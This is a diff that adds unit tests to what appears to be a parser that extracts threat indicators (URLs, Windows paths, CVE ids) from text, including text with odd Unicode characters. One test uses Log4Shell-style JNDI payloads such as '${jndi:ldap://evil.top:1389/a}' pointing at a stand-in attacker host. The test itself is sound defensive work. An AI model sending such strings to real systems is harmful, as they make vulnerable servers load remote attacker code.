@@ -100,6 +100,31 @@ def test_doubled_backslashes_of_a_path_become_single() -> None:
     assert [each.value for each in find(text)] == [r"C:\Program Files\a b\c.dll", r"D:\x\y.dll"]
 
 
+def test_what_a_printer_or_a_program_did_is_no_defanging() -> None:
+    for text in ("ba\u00adnk.com", "https:\\/\\/bank.com\\/a", "bank\u200b.com"):
+        found = find(f"see {text} now")
+        assert found
+        assert not any(each.defanged for each in found)
+    assert find("see ba\u00adnk[.]com now")[0].defanged
+
+
+def test_a_name_that_differs_on_each_machine_does_not_end_a_path() -> None:
+    for name in ("<user>", "[username]", "%USERNAME%", "*"):
+        path = rf"C:\Users\{name}\AppData\a.dll"
+        assert [each.value for each in find(f"in {path} now")] == [path]
+
+
+@pytest.mark.parametrize(
+    "url", ["ldap://evil.top:1389/a", "rmi://evil.top/x", "udp://evil.top:53", "tftp://evil.top/b"]
+)
+def test_the_schemes_that_exploits_use_are_urls(url: str) -> None:
+    assert find("${jndi:" + url + "}")[0].value == url
+
+
+def test_a_cve_may_be_set_with_hyphens_that_break_no_line() -> None:
+    assert find("cve\u20112023\u201129059 and CVE-2023-29059")[0].value == "CVE-2023-29059"
+
+
 @given(st.text(max_size=300))
 def test_any_text_keeps_its_spans_inside_and_in_order(text: str) -> None:
     refanged = refang(text)
